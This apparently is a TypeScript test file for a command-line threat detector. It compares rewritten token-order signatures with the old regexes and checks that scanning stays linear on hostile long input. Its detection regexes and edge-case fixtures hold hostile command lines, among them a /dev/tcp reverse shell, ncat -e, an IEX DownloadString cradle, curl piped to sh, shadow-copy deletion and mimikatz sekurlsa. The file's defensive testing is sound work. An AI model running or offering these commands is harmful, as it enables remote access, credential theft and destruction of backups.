// The command-line signatures were regexes of the form /A.*B/, quadratic on a long line of A's
// without a B; they are now ordered-token matches (matchesInOrder). Differential: on the real
// command corpus, the test fixtures and edge cases (line breaks, .exe suffixes), every signature
// answers exactly as the regex it replaced (kept here as the reference). Hostile: a 32 KiB line
// costs a bounded number of characters scanned per character of input (counted, never timed).
import { readFileSync } from 'node:fs';
import { analyzeCommandLines } from '../../src/analyzers/command-line';
import { matchesInOrder } from '../../src/domain/text-scan';
import { corpusPath } from '../helpers/corpus';
import { countTextWork } from '../helpers/work';

/** The regexes as they were (reference only: quadratic, never run on hostile input here). */
const REFERENCE: Record<string, RegExp> = {
  'ps-encoded': /\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|en|enc|enco|encod|encode|encodedcommand|ec)\s+[A-Za-z0-9+/=]{16,}/i,
  'ps-download-cradle':
    /(?:iex|invoke-expression)\b[\s\S]*(?:downloadstring|downloaddata|invoke-webrequest|iwr|net\.webclient)|(?:downloadstring|net\.webclient)[\s\S]*\b(?:iex|invoke-expression)\b/i,
  'ps-hidden-bypass': /\b(?:powershell|pwsh)(?:\.exe)?\b(?=.*-(?:w|windowstyle)\s+h(?:idden)?)(?=.*-(?:ep|exec|executionpolicy)\s+bypass)/i,
  'certutil-download': /\bcertutil(?:\.exe)?\b.*-urlcache\b.*\bhttps?:\/\//i,
  'certutil-decode': /\bcertutil(?:\.exe)?\b.*-decode\b/i,
  'mshta-remote': /\bmshta(?:\.exe)?\b.*(?:https?:|javascript:|vbscript:)/i,
  'regsvr32-squiblydoo': /\bregsvr32(?:\.exe)?\b.*\/i:\s*https?:.*scrobj\.dll/i,
  'rundll32-script': /\brundll32(?:\.exe)?\b.*(?:javascript:|mshtml,runhtmlapplication)/i,
  'bitsadmin-transfer': /\bbitsadmin(?:\.exe)?\b.*\/transfer\b/i,
  'shadow-delete': /\b(?:vssadmin(?:\.exe)?\s+delete\s+shadows|wmic(?:\.exe)?\s+shadowcopy\s+delete|wbadmin(?:\.exe)?\s+delete\s+catalog)/i,
  'lsass-dump': /(?:comsvcs(?:\.dll)?[, ]+#?\s*(?:minidump|24)\b|procdump(?:64)?(?:\.exe)?\b.*\blsass|sekurlsa::)/i,
  'curl-pipe-shell': /\b(?:curl|wget)\b[^|;]*\|\s*(?:ba|z|da)?sh\b/i,
  'reverse-shell': /(?:\/dev\/tcp\/\d{1,3}(?:\.\d{1,3}){3}\/\d+|\bnc(?:at)?\b.*\s-e\s+\/bin\/(?:ba)?sh|socket\.socket\(.*connect\()/i,
  'recon-discovery':
    /\b(?:whoami\s+\/(?:all|priv|groups)|net\s+(?:group\s+"?domain admins"?|localgroup\s+administrators)|nltest\s+\/domain_trusts)/i,
};

const signaturesOf = (cmd: string) => new Set(analyzeCommandLines([cmd]).evidence.map((e) => e.slice(0, e.indexOf(': '))));
const referenceOf = (cmd: string) => new Set(Object.keys(REFERENCE).filter((id) => REFERENCE[id].test(cmd)));

const corpus = (file: string) =>
  readFileSync(corpusPath('commands', file), 'utf8')
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => (JSON.parse(l) as { command: string }).command);

/** Edge cases of the rewrite: line breaks inside and between tokens, suffixes, several starts. */
const EDGES = [
  'powershell.exe\n-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'powershell\n x -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'powershell x\npowershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'pwsh.exe -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'powershell -w hidden\n-ep bypass',
  'powershell -ep bypass x -windowstyle h',
  'powershell -w h\npowershell -exec bypass -w hidden',
  'powershell -w h -ep bypass',
  'x -w h powershell -ep bypass',
  'certutil -urlcache\nhttp://a',
  'certutil.exe -urlcache -f https://a/b',
  'certutil x\ncertutil -urlcache x\n-urlcache http://a',
  'certutil.exe -decode a b',
  'certutil -decodehex a b',
  'mshta.exe vbscript:Close',
  'mshta\nhttps://a',
  'regsvr32 /i:http://a\n scrobj.dll',
  'regsvr32.exe /s /i: https://a/x.sct scrobj.dll',
  'rundll32.exe mshtml,RunHTMLApplication x',
  'rundll32 javascript:\n',
  'bitsadmin.exe /transfer j',
  'bitsadmin\n/transfer',
  'comsvcs.dll,  #24',
  'comsvcs ,\t minidump',
  'comsvcs \t\t#\t24',
  'comsvcs.dll, \u00a0MiniDump',
  'comsvcs  x minidump',
  'procdump64.exe -ma lsass',
  'procdump6 lsass',
  'procdump.exe\nlsass',
  'sekurlsa::logonpasswords',
  'curl http://a | sh',
  'curl a; wget b |  bash',
  'curl a; echo | sh',
  'wget -O- a |sudo sh',
  'curl a | shx',
  'curl a |\nzsh',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'ncat 1.2.3.4 5 -e /bin/bash',
  'nc 1 2\n-e /bin/sh',
  'nca -e /bin/sh',
  'python -c "s=socket.socket();s.connect((1,2))"',
  'socket.socket(\nconnect(',
  'IEX (New-Object Net.WebClient).DownloadString(x)',
  'net.webclient\n\niex',
  'iexplore downloadstring',
  'xiex iwr',
  'vssadmin.exe  delete   shadows /all',
  'wmic shadowcopy delete',
  'net group "domain admins" /domain',
];

describe('command-line signatures answer as the regexes they replaced', () => {
  test.each([
    ['malicious_commands.jsonl', 8],
    ['admin_commands_tldr.jsonl', 2],
  ])('on every command of the corpus (%s)', (file, kinds) => {
    const commands = corpus(file);
    expect(commands.length).toBeGreaterThan(1000);
    const differ = commands.filter((cmd) => [...signaturesOf(cmd)].sort().join() !== [...referenceOf(cmd)].sort().join());
    expect(differ).toEqual([]);
    // The corpus exercises the rewritten signatures, not only their absence.
    expect(new Set(commands.flatMap((cmd) => [...signaturesOf(cmd)])).size).toBeGreaterThanOrEqual(kinds);
  });

  test.each(EDGES.map((e) => [e]))('on %j', (cmd) => {
    expect([...signaturesOf(cmd)].sort()).toEqual([...referenceOf(cmd)].sort());
  });
});

describe('hostile command lines cost a bounded number of characters scanned', () => {
  const LIMIT = 32 * 1024;
  const fill = (unit: string) => unit.repeat(Math.ceil(LIMIT / unit.length)).slice(0, LIMIT);
  test.each([
    ['powershell without an -enc', fill('powershell ')],
    ['certutil -urlcache without a URL', fill('certutil -urlcache ')],
    ['curl without a pipe', fill('curl ')],
    ['curl ; curl ; …', fill('curl ;')],
    ['regsvr32 /i:http: without scrobj', fill('regsvr32 /i:http: ')],
    ['one powershell per line, -w h on the next', fill('powershell\n-w h -ep bypas\n')],
    ['iex without a download', fill('iex ')],
    ['comsvcs and spaces', `comsvcs${' '.repeat(LIMIT)}x`],
  ])('%s', async (_name, cmd) => {
    const { value, work } = await countTextWork(() => analyzeCommandLines([cmd]));
    expect(value.verdict).toBe('benign');
    // 14 signatures, most a few passes over the line: a constant per character, never per pair.
    expect(work.charsScanned + work.indexOfChars).toBeLessThan(60 * cmd.length);
  });
});

describe('matchesInOrder', () => {
  test('finds tokens in order on one line, or across lines with gap "any"', () => {
    expect(matchesInOrder('a x b y c', [/a/g, /b/g, /c/g])).toBe(true);
    expect(matchesInOrder('a x c y b', [/a/g, /b/g, /c/g])).toBe(false);
    expect(matchesInOrder('a\nb', [/a/g, /b/g])).toBe(false);
    expect(matchesInOrder('a\nb', [/a/g, /b/g], 'any')).toBe(true);
    expect(matchesInOrder('a\na b', [/a/g, /b/g])).toBe(true);
    expect(matchesInOrder('a c\nb a c', [/a/g, [/b/g, /c/g]])).toBe(false);
    expect(matchesInOrder('a c\na b c', [/a/g, [/b/g, /c/g]])).toBe(true);
  });

  test('many lines of a first token without the second: linear', async () => {
    const text = 'a\n'.repeat(20_000) + 'b';
    const { value, work } = await countTextWork(() => matchesInOrder(text, [/a/g, /b/g]));
    expect(value).toBe(false);
    expect(work.charsScanned).toBeLessThan(4 * text.length);
  });
});
